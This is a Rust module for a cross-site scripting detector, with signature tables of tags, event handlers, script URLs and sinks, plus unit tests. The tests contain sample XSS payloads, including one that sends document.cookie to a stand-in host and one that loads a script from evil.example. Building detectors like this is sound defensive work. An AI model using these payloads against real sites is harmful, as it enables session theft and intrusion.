//! Cross-site scripting: markup that runs script (`<script>`, event handlers, `javascript:`
//! URLs) and the tags and sinks that carry it. Harmless markup (`<p>`, `<b>`, `<a href>`)
//! scores nothing, so rich-text fields pass.

use super::Hits;
use crate::text::{find_all, floor_boundary, is_word_byte, skip_spaces};

/// Scans a flat normalized value.
pub fn scan(text: &str, hits: &mut Hits) {
    tags(text, hits);
    event_attributes(text, hits);
    script_urls(text, hits);
    sinks(text, hits);
    breakouts(text, hits);
}

/// Tags by danger: `<script>` runs code; the others load or embed content, or carry
/// event handlers in classic payloads.
const TAGS: &[(&str, &str, u32)] = &[
    ("script", "script_tag", 10),
    ("iframe", "embedding_tag", 7),
    ("frame", "embedding_tag", 7),
    ("frameset", "embedding_tag", 7),
    ("object", "embedding_tag", 7),
    ("embed", "embedding_tag", 7),
    ("applet", "embedding_tag", 7),
    ("svg", "active_tag", 5),
    ("math", "active_tag", 5),
    ("base", "active_tag", 5),
    ("meta", "active_tag", 5),
    ("link", "active_tag", 5),
    ("style", "active_tag", 5),
    ("marquee", "active_tag", 5),
    ("template", "active_tag", 5),
    ("isindex", "active_tag", 5),
    ("img", "media_tag", 3),
    ("image", "media_tag", 3),
    ("video", "media_tag", 3),
    ("audio", "media_tag", 3),
    ("body", "media_tag", 3),
    ("input", "media_tag", 3),
    ("form", "media_tag", 3),
    ("details", "media_tag", 3),
    ("button", "media_tag", 3),
    ("textarea", "media_tag", 3),
];

/// The tag name right after `<` (or `</`) at `at`.
fn tag_name(text: &str, at: usize) -> Option<(&str, bool)> {
    let rest = text.get(at + 1..)?;
    let (rest, closing) = match rest.strip_prefix('/') {
        Some(rest) => (rest, true),
        None => (rest, false),
    };
    let len = rest
        .bytes()
        .take_while(|b| b.is_ascii_alphanumeric() || *b == b'-' || *b == b':')
        .count();
    (len > 0 && rest.as_bytes()[0].is_ascii_alphabetic()).then(|| (&rest[..len], closing))
}

fn tags(text: &str, hits: &mut Hits) {
    for at in find_all(text, "<") {
        let Some((name, closing)) = tag_name(text, at) else {
            continue;
        };
        let name = name.rsplit(':').next().unwrap_or(name);
        if let Some((_, signature, score)) = TAGS.iter().find(|(tag, _, _)| *tag == name) {
            if *signature == "script_tag" || !closing {
                hits.add(signature, *score, at);
            }
        }
        if closing && ["title", "textarea", "style", "noscript", "xmp", "iframe"].contains(&name) {
            // Closing a raw-text element to escape it: `</title><script>`.
            hits.add("context_breakout", 6, at);
        }
    }
}

/// Events whose handlers payloads use outside a tag (`" onmouseover="...`), where the
/// bare `on...=` pattern would be too loose.
const EVENTS: &[&str] = &[
    "error",
    "load",
    "click",
    "dblclick",
    "mouseover",
    "mouseout",
    "mouseenter",
    "mousedown",
    "mouseup",
    "mousemove",
    "focus",
    "focusin",
    "blur",
    "change",
    "input",
    "submit",
    "keydown",
    "keyup",
    "keypress",
    "pointerover",
    "pointerdown",
    "pointerenter",
    "animationstart",
    "animationend",
    "transitionend",
    "toggle",
    "begin",
    "wheel",
    "drag",
    "dragstart",
    "drop",
    "auxclick",
    "beforeprint",
    "afterprint",
    "pageshow",
    "hashchange",
    "message",
    "resize",
    "scroll",
    "select",
    "play",
    "playing",
    "start",
    "finish",
    "contextmenu",
    "copy",
    "paste",
];

/// An `on<name>=` attribute at `at` (just after its separator): the event name if so.
fn event_attribute(text: &str, at: usize) -> Option<&str> {
    let rest = text.get(at..)?.strip_prefix("on")?;
    let len = rest
        .bytes()
        .take(25)
        .take_while(u8::is_ascii_alphabetic)
        .count();
    if !(3..=24).contains(&len) {
        return None;
    }
    let after = skip_spaces(rest, len);
    (rest.as_bytes().get(after) == Some(&b'=')).then(|| &rest[..len])
}

/// Event handler attributes: inside a tag (`<img src=x onerror=alert(1)>`), or injected
/// into an attribute of the page (`" autofocus onfocus="alert(1)`).
fn event_attributes(text: &str, hits: &mut Hits) {
    let bytes = text.as_bytes();
    let first_quote = text.find(['"', '\'']);
    for at in find_all(text, "on") {
        let separator = if at > 0 { bytes[at - 1] } else { b' ' };
        if at > 0 && is_word_byte(separator) {
            continue;
        }
        let Some(event) = event_attribute(text, at) else {
            continue;
        };
        // Inside a tag: an unclosed `<name` before this attribute, at most 256 bytes back.
        let start = floor_boundary(text, at.saturating_sub(256));
        let in_tag = text[start..at].rfind('<').is_some_and(|open| {
            let open = start + open;
            !text[open..at].contains('>') && tag_name(text, open).is_some()
        });
        if in_tag && matches!(separator, b' ' | b'/' | b'"' | b'\'' | b'\n') {
            hits.add("event_handler", 9, at);
        } else if EVENTS.contains(&event) && matches!(separator, b' ' | b'"' | b'\'' | b'/') {
            // A quote before it closed the attribute value the input landed in.
            if first_quote.is_some_and(|quote| quote < at) {
                hits.add("attribute_event_handler", 7, at);
            }
        }
    }
}

/// URLs that run script when followed. Browsers drop tabs and line breaks inside a scheme
/// (`java\tscript:`), so spaces between the scheme's letters are ignored.
fn script_urls(text: &str, hits: &mut Hits) {
    let bytes = text.as_bytes();
    for colon in find_all(text, ":") {
        // The letters before the colon, spaces skipped, last first (at most 10).
        let mut reversed = [0u8; 10];
        let mut len = 0;
        let mut start = colon;
        for (at, &byte) in bytes[..colon].iter().enumerate().rev() {
            if byte == b' ' {
                continue;
            }
            if !byte.is_ascii_alphabetic() || len == reversed.len() {
                break;
            }
            reversed[len] = byte;
            len += 1;
            start = at;
        }
        let scheme = &reversed[..len];
        for name in ["javascript", "vbscript", "livescript"] {
            if scheme.len() >= name.len()
                && scheme[..name.len()].iter().copied().eq(name.bytes().rev())
            {
                hits.add("script_url", 8, start);
            }
        }
    }
    for (prefix, score) in [
        ("data:text/html", 7),
        ("data:text/javascript", 7),
        ("data:application/javascript", 7),
        ("data:image/svg+xml", 5),
    ] {
        if let Some(at) = crate::text::find(text, prefix) {
            hits.add("data_url", score, at);
        }
    }
}

/// Script sinks and sources: what a payload calls once it runs.
fn sinks(text: &str, hits: &mut Hits) {
    const SINKS: &[(&str, &str, u32)] = &[
        ("document.cookie", "cookie_access", 6),
        ("document.domain", "cookie_access", 6),
        ("alert(", "script_call", 4),
        ("alert`", "script_call", 4),
        ("prompt(", "script_call", 4),
        ("confirm(", "script_call", 4),
        ("eval(", "script_call", 4),
        ("settimeout(", "script_call", 4),
        ("setinterval(", "script_call", 4),
        ("fromcharcode(", "script_call", 4),
        ("atob(", "script_call", 4),
        ("document.write", "dom_write", 4),
        (".innerhtml", "dom_write", 4),
        (".outerhtml", "dom_write", 4),
        ("window.location", "navigation", 4),
        ("document.location", "navigation", 4),
        ("top.location", "navigation", 4),
        ("expression(", "css_expression", 5),
        ("-moz-binding", "css_expression", 6),
    ];
    let bytes = text.as_bytes();
    for (needle, signature, score) in SINKS {
        let whole = find_all(text, needle).find(|&at| {
            // `alert(` but not `realert(`; dotted names may follow anything.
            needle.starts_with('.') || at == 0 || !is_word_byte(bytes[at - 1])
        });
        if let Some(at) = whole {
            hits.add(signature, *score, at);
        }
    }
}

/// Closing an attribute and opening a tag: `"><svg`, `'><img`.
fn breakouts(text: &str, hits: &mut Hits) {
    for quote in ["\">", "'>"] {
        for at in find_all(text, quote) {
            let next = skip_spaces(text, at + 2);
            if text.as_bytes().get(next) == Some(&b'<') && tag_name(text, next).is_some() {
                hits.add("attribute_breakout", 5, at);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::detect::testing::{scan, score};
    use crate::detect::Category::Xss;

    #[test]
    fn blatant_payloads_score_high() {
        for payload in [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(document.cookie)>",
            "<svg/onload=alert(1)>",
            "<body onload=alert('xss')>",
            "\"><script>fetch('//x?'+document.cookie)</script>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<a href=\"jav\tascript:alert(1)\">x</a>",
            "<details open ontoggle=prompt(1)>",
            "\" autofocus onfocus=\"alert(1)\" x=\"",
            "</title><script>alert(1)</script>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">",
        ] {
            assert!(
                score(Xss, payload) >= 9,
                "{payload}: {:?}",
                scan(Xss, payload)
            );
        }
    }

    #[test]
    fn signatures_are_named() {
        let (_, names) = scan(Xss, "<img src=x onerror=alert(1)>");
        assert_eq!(names, vec!["event_handler", "script_call", "media_tag"]);
        let (_, names) = scan(Xss, "javascript:alert(1)");
        assert_eq!(names, vec!["script_url", "script_call"]);
        let (_, names) = scan(Xss, "'><svg>");
        assert_eq!(names, vec!["attribute_breakout", "active_tag"]);
    }

    #[test]
    fn weak_signs_alone_stay_below_medium() {
        assert_eq!(score(Xss, "alert(1)"), 4);
        assert_eq!(score(Xss, "<img src=\"logo.png\">"), 3);
        assert_eq!(score(Xss, "<svg width=\"10\">"), 5);
    }

    #[test]
    fn ordinary_text_and_markup_score_low() {
        for text in [
            "<p>Estimado <b>Juan</b>, su trámite fue <i>aprobado</i>.</p>",
            "<a href=\"https://www.agetic.gob.bo\">AGETIC</a>",
            "Monto < 50000 y plazo > 1 día",
            "O'Brien <obrien@example.org>",
            "Online payment; once confirmed, only one receipt",
            "Condición: onerosa = sí",
            "El evento es \"online\" = virtual",
            "2024-01-15",
            "{\"nombre\": \"Juan\", \"nota\": \"dijo 'hola'\"}",
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
            "La alerta (alert) fue enviada",
            "Ver documento.location del archivo",
        ] {
            assert!(score(Xss, text) < 6, "{text}: {:?}", scan(Xss, text));
        }
        assert_eq!(score(Xss, "<p>Estimado <b>Juan</b></p>"), 0);
    }
}
